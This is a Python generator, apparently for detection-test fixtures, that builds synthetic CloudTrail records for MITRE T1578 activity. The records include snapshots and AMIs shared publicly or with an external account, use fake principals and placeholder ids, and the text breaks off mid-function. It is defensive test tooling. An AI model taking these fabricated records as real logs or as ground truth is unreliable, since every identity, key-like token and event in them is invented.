#!/usr/bin/env python3
"""Regenerate the T1578 sample-event corpus under events/ (deterministic).

    python3 events/generate.py

Everything is derived from names: UUIDs are uuid5 of a fixed namespace, resource ids are
sha256-derived, times are fixed. Running it twice gives byte-identical files. It reads the
operations catalog (shared/catalog/t1578.toml) and writes, for every row, the `positive` and
`negative` fixture it names, plus scenarios/, formats/ and variants/. It never deletes files.

Shapes follow real records: DataDog/stratus-red-team detonation logs (CloudTrail), AWS
documentation samples (rbin, shared-snapshot service events), and the Azure Activity Log
export samples quoted in /work/shared/reference/wire-formats.md (section 1.6).
"""
from __future__ import annotations

import base64
import datetime as dt
import gzip
import hashlib
import io
import json
import re
import sys
import tomllib
import uuid
from pathlib import Path

EVENTS = Path(__file__).resolve().parent
REPO = EVENTS.parent
CATALOG = REPO / "shared" / "catalog" / "t1578.toml"

OWN = "111122223333"
EXT = "444455556666"
EXT_ORG_ARN = "arn:aws:organizations::444455556666:organization/o-4k2h8q1xzm"
SUB = "aaaaaaaa-1111-2222-3333-444444444444"
TENANT = "bbbbbbbb-5555-6666-7777-888888888888"
HIERARCHY = f"{TENANT}/contoso-root/mg-production/{SUB}"
EC2_XMLNS = "http://ec2.amazonaws.com/doc/2016-11-15/"
NS = uuid.UUID("5b0f3a5e-7d1c-4c8e-9a57-1578c0ffee00")
UTC = dt.timezone.utc

WRITTEN: list[Path] = []


# ------------------------------------------------------------------------------------------------
# deterministic helpers
# ------------------------------------------------------------------------------------------------

def uid(*parts) -> str:
    return str(uuid.uuid5(NS, "|".join(str(p) for p in parts)))


def hx(*parts, n: int = 16) -> str:
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:n]


def num(*parts, mod: int) -> int:
    return int(hx(*parts, n=12), 16) % mod


def b32(*parts, n: int = 16) -> str:
    """Upper-case base32-ish token (access key ids, role ids)."""
    raw = hashlib.sha256("|".join(str(p) for p in parts).encode()).digest()
    return base64.b32encode(raw).decode().replace("=", "")[:n].replace("0", "Q").replace("1", "R")


def b64(*parts, n: int = 40) -> str:
    raw = hashlib.sha512("|".join(str(p) for p in parts).encode()).digest()
    raw += hashlib.sha512(raw).digest()
    return base64.b64encode(raw).decode()[:n]


def b64url(*parts, n: int = 40) -> str:
    return b64(*parts, n=n).replace("+", "-").replace("/", "_")


def rid(prefix: str, *parts) -> str:
    """EC2-style id: prefix-0 + 16 hex (17 hex digits, like snap-041993b54a9b3af6f)."""
    return f"{prefix}-0{hx(prefix, *parts, n=16)}"


def ts(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def ts7(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"


def epoch_ms(t: dt.datetime) -> int:
    return int(t.timestamp() * 1000)


def rds_date(t: dt.datetime) -> str:
    h = t.hour % 12 or 12
    return f"{t:%b} {t.day}, {t.year}, {h}:{t:%M:%S} {'AM' if t.hour < 12 else 'PM'}"


def kebab(name: str) -> str:
    return re.sub(r"(?<=[a-z0-9])(?=[A-Z])|(?<=[A-Z])(?=[A-Z][a-z])", "-", name).lower()


def write_json(rel: str, obj, *, indent: int | None = 2) -> None:
    path = EVENTS / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    text = json.dumps(obj, indent=indent, ensure_ascii=False)
    path.write_text(text + "\n", encoding="utf-8")
    WRITTEN.append(path)


def write_text(rel: str, text: str) -> None:
    path = EVENTS / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    WRITTEN.append(path)


def write_bytes(rel: str, data: bytes) -> None:
    path = EVENTS / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    WRITTEN.append(path)


# ------------------------------------------------------------------------------------------------
# AWS principals and context
# ------------------------------------------------------------------------------------------------

AWS_PRINCIPALS = {
    "alice": dict(kind="IAMUser", name="alice", ip="198.51.100.23", ua="cli2", hour=9),
    "bob": dict(kind="IAMUser", name="bob", ip="203.0.113.87", ua="boto3", hour=14),
    "ci-deploy": dict(kind="AssumedRole", role="ci-deploy", path="", session="GitHubActions-11873402251",
                      web_identity=True, ip="203.0.113.160", ua="cli2gha", hour=2),
    "sso-admin": dict(kind="AssumedRole", role="AWSReservedSSO_AdministratorAccess_4f2b8c1d9e7a6b35",
                      path="aws-reserved/sso.amazonaws.com/", session="carol@example.com",
                      ip="192.0.2.140", ua="console", hour=11),
    "svc-terraform": dict(kind="IAMUser", name="svc-terraform", ip="198.51.100.201", ua="terraform", hour=16),
    "eve": dict(kind="IAMUser", name="eve", ip="192.0.2.77", ua="cli1", hour=21),
    "root": dict(kind="Root", ip="192.0.2.15", ua="console", hour=20),
    "atomic-tester": dict(kind="IAMUser", name="atomic-tester", ip="198.51.100.9", ua="cli2", hour=14),
}
AWS_POOL = ["alice", "bob", "ci-deploy", "sso-admin", "svc-terraform", "eve"]
# fixtures deliberately made by the root user (console)
AWS_ROOT_FILES = {"aws/ec2-enable-serial-console-access.json", "aws/ec2-disable-ebs-encryption-by-default.json"}
REGIONS = ["us-east-1", "us-east-1", "us-east-1", "eu-west-1", "us-west-2"]


def other_region(region: str) -> str:
    return "us-west-2" if region != "us-west-2" else "us-east-1"


class Ctx:
    """One CloudTrail record being built: who, when, where."""

    def __init__(self, key: str, t: dt.datetime, principal: str, region: str, session: str | None = None):
        self.key = key
        self.t = t
        self.pname = principal
        self.p = AWS_PRINCIPALS[principal]
        self.region = region
        self.session = session or self.p.get("session")
        if principal == "ci-deploy" and session is None:  # one GitHub Actions run per call
            self.session = f"GitHubActions-{11873402251 + num(key, 'run', mod=90000000)}"
        self.request_id = uid(key, "requestID")
        self.event_id = uid(key, "eventID")

    # -- identity -------------------------------------------------------------------------------
    def arn(self) -> str:
        p = self.p
        if p["kind"] == "IAMUser":
            return f"arn:aws:iam::{OWN}:user/{p['name']}"
        if p["kind"] == "Root":
            return f"arn:aws:iam::{OWN}:root"
        return f"arn:aws:sts::{OWN}:assumed-role/{p['role']}/{self.session}"

    def identity(self) -> dict:
        p = self.p
        if p["kind"] == "IAMUser":
            return {
                "type": "IAMUser",
                "principalId": "AIDA" + b32("principal", p["name"], n=17),
                "arn": self.arn(),
                "accountId": OWN,
                "accessKeyId": "AKIA" + b32("akia", p["name"], n=16),
                "userName": p["name"],
            }
        if p["kind"] == "Root":
            return {
                "type": "Root",
                "principalId": OWN,
                "arn": self.arn(),
                "accountId": OWN,
                "accessKeyId": "ASIA" + b32("root-session", self.key, n=16),
                "sessionContext": {
                    "attributes": {"creationDate": ts(self.t - dt.timedelta(minutes=23)), "mfaAuthenticated": "true"},
                },
            }
        role_id = "AROA" + b32("role", p["role"], n=17)
        web = ({"federatedProvider": f"arn:aws:iam::{OWN}:oidc-provider/token.actions.githubusercontent.com",
                "attributes": {}} if p.get("web_identity") else {})
        return {
            "type": "AssumedRole",
            "principalId": f"{role_id}:{self.session}",
            "arn": self.arn(),
            "accountId": OWN,
            "accessKeyId": "ASIA" + b32("asia", self.key, self.session, n=16),
            "sessionContext": {
                "sessionIssuer": {
                    "type": "Role",
                    "principalId": role_id,
                    "arn": f"arn:aws:iam::{OWN}:role/{p.get('path', '')}{p['role']}",
                    "accountId": OWN,
                    "userName": p["role"],
                },
                "webIdFederationData": web,
                "attributes": {"creationDate": ts(self.t - dt.timedelta(minutes=num(self.key, "sess", mod=50) + 3)),
                               "mfaAuthenticated": "false"},
            },
        }

    @property
    def console(self) -> bool:
        return self.p["ua"] == "console"

    def user_agent(self, service: str, event_name: str) -> str:
        style = self.p["ua"]
        cmd = f"{service}.{kebab(event_name)}"
        if style == "cli2":
            return f"aws-cli/2.17.42 Python/3.12.6 Linux/6.8.0-1016-aws exe/x86_64.ubuntu.24 prompt/off command/{cmd}"
        if style == "cli2gha":
            return ("aws-cli/2.18.5 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1017-azure md/arch#x86_64 "
                    "lang/python#3.12.6 md/pyimpl#CPython exec-env/GitHubActions cfg/retry-mode#standard "
                    f"md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#{cmd}")
        if style == "boto3":
            return ("Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.6 "
                    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36")
        if style == "terraform":
            api = {"ec2": "ec2#1.186.0", "rds": "rds#1.87.3", "rbin": "rbin#1.20.3",
                   "ec2-instance-connect": "ec2instanceconnect#1.25.3", "ebs": "ebs#1.26.3",
                   "dlm": "dlm#1.28.3", "backup": "backup#1.30.0",
                   "autoscaling": "autoscaling#1.48.0", "workspaces": "workspaces#1.47.3",
                   "lightsail": "lightsail#1.42.3", "eks": "eks#1.51.1", "batch": "batch#1.49.4"}[service]
            return ("APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.72.1 "
                    "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.32.2 ua/2.1 os/linux "
                    f"lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/{api}")
        if style == "cli1":
            return "aws-cli/1.35.10 Python/3.9.20 Windows/10 exe/AMD64 botocore/1.35.44"
        if style == "console":
            return "console.ec2.amazonaws.com" if service == "ec2" else "console.amazonaws.com"
        raise ValueError(style)

    # -- ids ------------------------------------------------------------------------------------
    def ms(self, delta: float = 0) -> int:
        return epoch_ms(self.t + dt.timedelta(seconds=delta))


EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08", "ec2-instance-connect": "1.08", "ebs": "1.09",
                 "dlm": "1.09", "backup": "1.08", "autoscaling": "1.09", "workspaces": "1.08",
                 "lightsail": "1.08", "eks": "1.09", "batch": "1.09"}


def ct_record(ctx: Ctx, service: str, name: str, req, resp, error: tuple[str, str] | None = None) -> dict:
    d: dict = {
        "eventVersion": EVENT_VERSION[service],
        "userIdentity": ctx.identity(),
        "eventTime": ts(ctx.t),
        "eventSource": f"{service}.amazonaws.com",
        "eventName": name,
        "awsRegion": ctx.region,
        "sourceIPAddress": ctx.p["ip"],
        "userAgent": ctx.user_agent(service, name),
    }
    if error:
        d["errorCode"], d["errorMessage"] = error
    d["requestParameters"] = req
    d["responseElements"] = None if error else resp
    d["requestID"] = ctx.request_id
    d["eventID"] = ctx.event_id
    d["readOnly"] = False
    d["eventType"] = "AwsApiCall"
    d["managementEvent"] = True
    d["recipientAccountId"] = OWN
    d["eventCategory"] = "Management"
    d["tlsDetails"] = {
        "tlsVersion": "TLSv1.3",
        "cipherSuite": "TLS_AES_128_GCM_SHA256",
        "clientProvidedHostHeader": f"{service}.{ctx.region}.amazonaws.com",
    }
    if ctx.console:
        d["sessionCredentialFromConsole"] = "true"
    if service == "ebs":
        data_event(d, ctx, req)
    return d


def data_event(d: dict, ctx: Ctx, req) -> None:
    """The EBS direct APIs' reads are data events: read-only, no response, the snapshot in `resources`."""
    snap = req.get("secondSnapshotId") or req["snapshotId"]
    d["readOnly"] = True
    d["resources"] = [{"accountId": OWN, "type": "AWS::EC2::Snapshot", "ARN": ebs_snapshot_arn(ctx, snap)}]
    d["managementEvent"] = False
    d["eventCategory"] = "Data"
    # Data-event records put `resources` before `eventType`; keep CloudTrail's key order.
    for k in ("eventType", "managementEvent", "recipientAccountId", "eventCategory", "tlsDetails"):
        d[k] = d.pop(k)


def envelope(detail: dict, key: str, service_event: bool = False) -> dict:
    return {
        "version": "0",
        "id": uid(key, "envelope"),
        "detail-type": "AWS Service Event via CloudTrail" if service_event else "AWS API Call via CloudTrail",
        "source": "aws." + detail["eventSource"].split(".")[0],
        "account": detail["recipientAccountId"],
        "time": detail["eventTime"],
        "region": detail["awsRegion"],
        "resources": [],
        "detail": detail,
    }


def auth_error(ctx: Ctx, service: str, name: str, resource_arn: str) -> tuple[str, str]:
    action = f"{service}:{name}"
    if service == "ebs":
        return ("AccessDeniedException",
                f"User: {ctx.arn()} is not authorized to perform: {action} on resource: {resource_arn} "
                f"because no identity-based policy allows the {action} action")
    if service == "ec2":
        return ("Client.UnauthorizedOperation",
                f"You are not authorized to perform this operation. User: {ctx.arn()} is not authorized to perform: "
                f"{action} on resource: {resource_arn} because no identity-based policy allows the {action} action. "
                f"Encoded authorization failure message: {b64url('encoded', ctx.key, n=380)}")
    if service in ("lightsail", "eks", "batch"):
        return ("AccessDeniedException",
                f"User: {ctx.arn()} is not authorized to perform: {action} on resource: {resource_arn} "
                f"because no identity-based policy allows the {action} action")
    return ("AccessDenied",
            f"User: {ctx.arn()} is not authorized to perform: {action} on resource: {resource_arn} "
            f"because no identity-based policy allows the {action} action")


DRYRUN = ("Client.DryRunOperation", "Request would have succeeded, but DryRun flag is set.")


# ------------------------------------------------------------------------------------------------
# AWS builders: (ctx, row_id, look) -> (service, eventName, requestParameters, responseElements, resource_arn)
# `look` is True for a semantic look-alike negative (share to self, IMDS required, ...).
# Error negatives (-dryrun / -failed / -unauthorized) reuse the positive request.
# ------------------------------------------------------------------------------------------------

def ec2_ok(ctx: Ctx, **fields) -> dict:
    return {"requestId": ctx.request_id, **fields}


def ec2_wrapped(ctx: Ctx, op: str, **fields) -> dict:
    return {f"{op}Response": {"requestId": ctx.request_id, **fields, "xmlns": EC2_XMLNS}}


def ec2_setting(ctx: Ctx, op: str, **fields):
    """A region's account setting changed by a call without parameters (newer EC2 APIs log an
    empty wrapped request): the builder's tuple, its resource the account's wildcard ARN."""
    return "ec2", op, {f"{op}Request": ""}, ec2_wrapped(ctx, op, **fields), ec2_arn(ctx, "*", "*")


def ec2_arn(ctx: Ctx, kind: str, ident: str, account: str = OWN) -> str:
    if kind in ("snapshot", "image"):
        return f"arn:aws:ec2:{ctx.region}::{kind}/{ident}"
    return f"arn:aws:ec2:{ctx.region}:{account}:{kind}/{ident}"


def instance_state(iid: str, cur: tuple[int, str], prev: tuple[int, str]) -> dict:
    return {"instanceId": iid, "currentState": {"code": cur[0], "name": cur[1]},
            "previousState": {"code": prev[0], "name": prev[1]}}


def run_instances(ctx: Ctx, row: str, count: int, itype: str, http_tokens: str, name_tag: str):
    ami = rid("ami", row, "base")
    subnet = rid("subnet", "prod-a")
    sg = rid("sg", "app")
    vpc = rid("vpc", "prod")
    az = ctx.region + "a"
    req = {
        "instancesSet": {"items": [{"imageId": ami, "minCount": count, "maxCount": count}]},
        "instanceType": itype,
        "blockDeviceMapping": {},
        "monitoring": {"enabled": False},
        "subnetId": subnet,
        "disableApiTermination": False,
        "disableApiStop": False,
        "clientToken": uid(ctx.key, "clientToken"),
        "groupSet": {"items": [{"groupId": sg}]},
        "iamInstanceProfile": {"name": "app-instance-profile"},
        "metadataOptions": {"httpTokens": http_tokens, "httpPutResponseHopLimit": 2, "httpEndpoint": "enabled"},
        "tagSpecificationSet": {"items": [{"resourceType": "instance", "tags": [{"key": "Name", "value": name_tag}]}]},
    }
    items = []
    for i in range(count):
        iid = rid("i", row, "run", i)
        ip = f"10.20.{num(row, i, 'oct3', mod=250) + 1}.{num(row, i, 'oct4', mod=250) + 2}"
        items.append({
            "instanceId": iid,
            "imageId": ami,
            "instanceState": {"code": 0, "name": "pending"},
            "privateDnsName": f"ip-{ip.replace('.', '-')}.ec2.internal" if ctx.region == "us-east-1"
            else f"ip-{ip.replace('.', '-')}.{ctx.region}.compute.internal",
            "amiLaunchIndex": i,
            "productCodes": {},
            "instanceType": itype,
            "launchTime": ctx.ms(),
            "placement": {"availabilityZone": az, "tenancy": "default"},
            "monitoring": {"state": "disabled"},
            "subnetId": subnet,
            "vpcId": vpc,
            "privateIpAddress": ip,
            "stateReason": {"code": "pending", "message": "pending"},
            "architecture": "x86_64",
            "rootDeviceType": "ebs",
            "rootDeviceName": "/dev/xvda",
            "blockDeviceMapping": {},
            "virtualizationType": "hvm",
            "hypervisor": "xen",
            "tagSet": {"items": [{"key": "Name", "value": name_tag}]},
            "groupSet": {"items": [{"groupId": sg, "groupName": "app"}]},
            "sourceDestCheck": True,
            "networkInterfaceSet": {"items": [{
                "networkInterfaceId": rid("eni", row, i),
                "subnetId": subnet,
                "vpcId": vpc,
                "ownerId": OWN,
                "status": "in-use",
                "macAddress": ":".join(hx("mac", row, i, n=12)[j:j + 2] for j in range(0, 12, 2)),
                "privateIpAddress": ip,
                "sourceDestCheck": True,
                "interfaceType": "interface",
                "groupSet": {"items": [{"groupId": sg, "groupName": "app"}]},
                "attachment": {"attachmentId": rid("eni-attach", row, i), "deviceIndex": 0, "networkCardIndex": 0,
                               "status": "attaching", "attachTime": ctx.ms(), "deleteOnTermination": True},
                "privateIpAddressesSet": {"item": [{"privateIpAddress": ip, "primary": True}]},
                "ipv6AddressesSet": {},
                "tagSet": {},
            }]},
            "iamInstanceProfile": {"arn": f"arn:aws:iam::{OWN}:instance-profile/app-instance-profile",
                                   "id": "AIPA" + b32("ip", "app-instance-profile", n=17)},
            "ebsOptimized": False,
            "enaSupport": True,
            "cpuOptions": {"coreCount": 2, "threadsPerCore": 2},
            "capacityReservationSpecification": {"capacityReservationPreference": "open"},
            "enclaveOptions": {"enabled": False},
            "metadataOptions": {"state": "pending", "httpTokens": http_tokens, "httpPutResponseHopLimit": 2,
                                "httpEndpoint": "enabled", "httpProtocolIpv4": "enabled",
                                "httpProtocolIpv6": "disabled", "instanceMetadataTags": "disabled"},
            "maintenanceOptions": {"autoRecovery": "default"},
            "currentInstanceBootMode": "legacy-bios",
        })
    resp = ec2_ok(ctx, reservationId=rid("r", row), ownerId=OWN, groupSet={}, instancesSet={"items": items})
    return "ec2", "RunInstances", req, resp, ec2_arn(ctx, "instance", "*")


def db_instance(ctx: Ctx, ident: str, status: str, **over) -> dict:
    az = ctx.region + "b"
    d = {
        "dBInstanceIdentifier": ident,
        "dBInstanceClass": "db.r6g.large",
        "engine": "postgres",
        "dBInstanceStatus": status,
        "masterUsername": "pgadmin",
        "endpoint": {"address": f"{ident}.c9akciq32k1z.{ctx.region}.rds.amazonaws.com", "port": 5432,
                     "hostedZoneId": "Z2R2ITUGPM61AM"},
        "allocatedStorage": 200,
        "instanceCreateTime": rds_date(dt.datetime(2025, 3, 3, 10, 12, 45, tzinfo=UTC)),
        "preferredBackupWindow": "03:00-03:30",
        "backupRetentionPeriod": 7,
        "dBSecurityGroups": [],
        "vpcSecurityGroups": [{"vpcSecurityGroupId": rid("sg", "db"), "status": "active"}],
        "dBParameterGroups": [{"dBParameterGroupName": "default.postgres16", "parameterApplyStatus": "in-sync"}],
        "availabilityZone": az,
        "dBSubnetGroup": {
            "dBSubnetGroupName": "db-private",
            "dBSubnetGroupDescription": "private database subnets",
            "vpcId": rid("vpc", "prod"),
            "subnetGroupStatus": "Complete",
            "subnets": [{"subnetIdentifier": rid("subnet", "db-b"), "subnetAvailabilityZone": {"name": az},
                         "subnetOutpost": {}, "subnetStatus": "Active"}],
        },
        "preferredMaintenanceWindow": "sun:05:00-sun:05:30",
        "pendingModifiedValues": {},
        "latestRestorableTime": rds_date(ctx.t - dt.timedelta(minutes=4)),
        "multiAZ": False,
        "engineVersion": "16.4",
        "autoMinorVersionUpgrade": True,
        "readReplicaDBInstanceIdentifiers": [],
        "licenseModel": "postgresql-license",
        "optionGroupMemberships": [{"optionGroupName": "default:postgres-16", "status": "in-sync"}],
        "publiclyAccessible": False,
        "storageType": "gp3",
        "dbInstancePort": 0,
        "storageEncrypted": True,
        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
        "dbiResourceId": "db-" + b32("dbi", ident, n=26),
        "cACertificateIdentifier": "rds-ca-rsa2048-g1",
        "domainMemberships": [],
        "copyTagsToSnapshot": True,
        "monitoringInterval": 0,
        "dBInstanceArn": f"arn:aws:rds:{ctx.region}:{OWN}:db:{ident}",
        "iAMDatabaseAuthenticationEnabled": False,
        "performanceInsightsEnabled": False,
        "deletionProtection": True,
        "associatedRoles": [],
        "tagList": [{"key": "env", "value": "prod"}],
        "customerOwnedIpEnabled": False,
        "backupTarget": "region",
        "networkType": "IPV4",
        "storageThroughput": 125,
        "certificateDetails": {"cAIdentifier": "rds-ca-rsa2048-g1", "validTill": "Mar 3, 2026, 10:11:00 AM"},
        "dedicatedLogVolume": False,
        "engineLifecycleSupport": "open-source-rds-extended-support",
    }
    if status == "creating":
        for k in ("endpoint", "latestRestorableTime", "instanceCreateTime"):
            d.pop(k)
    d.update(over)
    return d


def db_snapshot(ctx: Ctx, ident: str, instance: str, status: str, stype: str = "manual", **over) -> dict:
    az = ctx.region + "b"
    d = {
        "dBSnapshotIdentifier": ident,
        "dBInstanceIdentifier": instance,
        "snapshotCreateTime": rds_date(ctx.t - dt.timedelta(days=3, hours=2)),
        "engine": "postgres",
        "allocatedStorage": 200,
        "status": status,
        "port": 5432,
        "availabilityZone": az,
        "vpcId": rid("vpc", "prod"),
        "instanceCreateTime": rds_date(dt.datetime(2025, 3, 3, 10, 12, 45, tzinfo=UTC)),
        "masterUsername": "pgadmin",
        "engineVersion": "16.4",
        "licenseModel": "postgresql-license",
        "snapshotType": stype,
        "percentProgress": 100,
        "storageType": "gp3",
        "encrypted": True,
        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
        "dBSnapshotArn": f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{ident}",
        "iAMDatabaseAuthenticationEnabled": False,
        "processorFeatures": [],
        "dbiResourceId": "db-" + b32("dbi", instance, n=26),
        "tagList": [],
        "originalSnapshotCreateTime": rds_date(ctx.t - dt.timedelta(days=3, hours=2)),
        "snapshotTarget": "region",
        "storageThroughput": 125,
        "dedicatedLogVolume": False,
        "multiTenant": False,
    }
    if status == "creating":
        d["percentProgress"] = 0
        d.pop("snapshotCreateTime")
        d.pop("originalSnapshotCreateTime")
    d.update(over)
    return d


def db_cluster(ctx: Ctx, ident: str, status: str, **over) -> dict:
    d = {
        "allocatedStorage": 1,
        "availabilityZones": [ctx.region + "a", ctx.region + "b", ctx.region + "c"],
        "backupRetentionPeriod": 7,
        "dBClusterIdentifier": ident,
        "dBClusterParameterGroup": "default.aurora-postgresql16",
        "dBSubnetGroup": "db-private",
        "status": status,
        "endpoint": f"{ident}.cluster-c9akciq32k1z.{ctx.region}.rds.amazonaws.com",
        "readerEndpoint": f"{ident}.cluster-ro-c9akciq32k1z.{ctx.region}.rds.amazonaws.com",
        "multiAZ": False,
        "engine": "aurora-postgresql",
        "engineVersion": "16.4",
        "port": 5432,
        "masterUsername": "pgadmin",
        "preferredBackupWindow": "04:00-04:30",
        "preferredMaintenanceWindow": "sat:06:00-sat:06:30",
        "readReplicaIdentifiers": [],
        "dBClusterMembers": [],
        "vpcSecurityGroups": [{"vpcSecurityGroupId": rid("sg", "db"), "status": "active"}],
        "hostedZoneId": "Z2R2ITUGPM61AM",
        "storageEncrypted": True,
        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
        "dbClusterResourceId": "cluster-" + b32("cluster", ident, n=26),
        "dBClusterArn": f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{ident}",
        "associatedRoles": [],
        "iAMDatabaseAuthenticationEnabled": False,
        "clusterCreateTime": rds_date(dt.datetime(2025, 6, 12, 8, 30, 1, tzinfo=UTC)),
        "engineMode": "provisioned",
        "deletionProtection": False,
        "httpEndpointEnabled": False,
        "copyTagsToSnapshot": True,
        "crossAccountClone": False,
        "domainMemberships": [],
        "tagList": [],
        "autoMinorVersionUpgrade": True,
        "networkType": "IPV4",
        "engineLifecycleSupport": "open-source-rds-extended-support",
    }
    d.update(over)
    return d


def db_cluster_snapshot(ctx: Ctx, ident: str, cluster: str, status: str, **over) -> dict:
    d = {
        "availabilityZones": [ctx.region + "a", ctx.region + "b", ctx.region + "c"],
        "dBClusterSnapshotIdentifier": ident,
        "dBClusterIdentifier": cluster,
        "engine": "aurora-postgresql",
        "engineMode": "provisioned",
        "allocatedStorage": 0,
        "status": status,
        "port": 0,
        "vpcId": rid("vpc", "prod"),
        "clusterCreateTime": rds_date(dt.datetime(2025, 6, 12, 8, 30, 1, tzinfo=UTC)),
        "masterUsername": "pgadmin",
        "engineVersion": "16.4",
        "licenseModel": "postgresql-license",
        "snapshotType": "manual",
        "percentProgress": 0,
        "storageEncrypted": True,
        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
        "dBClusterSnapshotArn": f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{ident}",
        "iAMDatabaseAuthenticationEnabled": False,
        "tagList": [],
    }
    d.update(over)
    return d


def share_attr(items_key: str, values: list[str]) -> dict:
    return {items_key: {"items": [({"group": v} if v == "all" else {"userId": v}) for v in values]}}


def b_snapshot_attribute(ctx, row, look, mode):
    snap = rid("snap", row)
    if mode == "public":
        perm = {"add": {"items": [{"group": "all"}]}}
    elif mode == "external":
        perm = {"add": {"items": [{"userId": OWN if look else EXT}]}}
    else:  # removed
        perm = {"remove": {"items": [{"userId": EXT}]}}
    req = {"snapshotId": snap, "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": perm}
    return "ec2", "ModifySnapshotAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "snapshot", snap)


def b_image_attribute(ctx, row, look, mode):
    ami = rid("ami", row)
    if mode == "public":
        items = [{"group": "all"}]
    elif look:
        items = [{"userId": OWN}]
    else:
        items = [{"userId": EXT}, {"organizationArn": EXT_ORG_ARN}]
    req = {"imageId": ami, "attributeType": "launchPermission", "launchPermission": {"add": {"items": items}}}
    return "ec2", "ModifyImageAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "image", ami)


def b_create_snapshot(ctx, row, look):
    vol = rid("vol", row)
    snap = rid("snap", row)
    desc = "pre-patch backup of web-01 root volume"
    req = {"volumeId": vol, "description": desc}
    resp = ec2_ok(ctx, snapshotId=snap, volumeId=vol, status="pending", startTime=ctx.ms(), progress="",
                  ownerId=OWN, description=desc, volumeSize=100, encrypted=True,
                  kmsKeyId=f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'ebs', ctx.region)}",
                  storageTier="standard")
    return "ec2", "CreateSnapshot", req, resp, ec2_arn(ctx, "volume", vol)


def b_create_snapshots(ctx, row, look):
    iid = rid("i", row)
    req = {"CreateSnapshotsRequest": {"InstanceSpecification": {"InstanceId": iid, "ExcludeBootVolume": False},
                                      "Description": "db-02 crash-consistent set", "CopyTagsFromSource": "volume"}}
    items = []
    for i, size in enumerate((50, 500)):
        items.append({"snapshotId": rid("snap", row, i), "volumeId": rid("vol", row, i), "state": "pending",
                      "startTime": ts(ctx.t), "progress": "", "ownerId": OWN, "volumeSize": size,
                      "encrypted": True, "description": "db-02 crash-consistent set", "tagSet": ""})
    resp = ec2_wrapped(ctx, "CreateSnapshots", snapshotSet={"item": items})
    return "ec2", "CreateSnapshots", req, resp, ec2_arn(ctx, "instance", iid)


def b_copy_snapshot(ctx, row, look, cross):
    src_region = other_region(ctx.region) if cross else ctx.region
    src = rid("snap", row, "source")
    new = rid("snap", row, "copy")
    req = {"sourceRegion": src_region, "sourceSnapshotId": src,
           "description": f"[Copied {src} from {src_region}]"}
    return "ec2", "CopySnapshot", req, ec2_ok(ctx, snapshotId=new), ec2_arn(ctx, "snapshot", new)


def b_create_image(ctx, row, look):
    iid = rid("i", row)
    req = {"instanceId": iid, "name": "web-01-golden-20261007", "description": "web-01 image", "noReboot": True}
    return "ec2", "CreateImage", req, ec2_ok(ctx, imageId=rid("ami", row)), ec2_arn(ctx, "instance", iid)


def b_copy_image(ctx, row, look):
    src_region = other_region(ctx.region)
    src = rid("ami", row, "source")
    req = {"sourceRegion": src_region, "sourceImageId": src, "name": "web-01-golden-copy",
           "description": f"[Copied {src} from {src_region}] web-01-golden", "encrypted": False,
           "clientToken": uid(ctx.key, "clientToken")}
    return "ec2", "CopyImage", req, ec2_ok(ctx, imageId=rid("ami", row, "copy")), ec2_arn(ctx, "image", src)


def b_register_image(ctx, row, look):
    snap = rid("snap", row)
    req = {"name": "restored-db-02-root", "architecture": "x86_64", "rootDeviceName": "/dev/xvda",
           "blockDeviceMapping": {"items": [{"deviceName": "/dev/xvda",
                                             "ebs": {"snapshotId": snap, "deleteOnTermination": True,
                                                     "volumeType": "gp3"}}]},
           "virtualizationType": "hvm", "enaSupport": True, "bootMode": "uefi-preferred"}
    return "ec2", "RegisterImage", req, ec2_ok(ctx, imageId=rid("ami", row)), ec2_arn(ctx, "image", "*")


def b_import_image(ctx, row, look):
    bucket = "vm-import-staging-111122223333"
    req = {"description": "imported appliance", "diskContainerSet": {"items": [
        {"description": "disk1", "format": "VMDK", "userBucket": {"s3Bucket": bucket, "s3Key": "uploads/appliance-disk1.vmdk"}}]},
        "licenseType": "BYOL", "roleName": "vmimport"}
    resp = ec2_ok(ctx, importTaskId=rid("import-ami", row), description="imported appliance", licenseType="BYOL",
                  progress="1", status="active", statusMessage="pending",
                  snapshotDetailSet={"items": [{"diskImageSize": 0.0, "format": "VMDK",
                                                "userBucket": {"s3Bucket": bucket,
                                                               "s3Key": "uploads/appliance-disk1.vmdk"}}]})
    return "ec2", "ImportImage", req, resp, ec2_arn(ctx, "import-image-task", "*")


def b_import_snapshot(ctx, row, look):
    bucket = "vm-import-staging-111122223333"
    req = {"description": "imported disk", "diskContainer": {"description": "data disk", "format": "VHD",
                                                             "userBucket": {"s3Bucket": bucket, "s3Key": "uploads/data.vhd"}},
           "roleName": "vmimport"}
    resp = ec2_ok(ctx, importTaskId=rid("import-snap", row), description="imported disk",
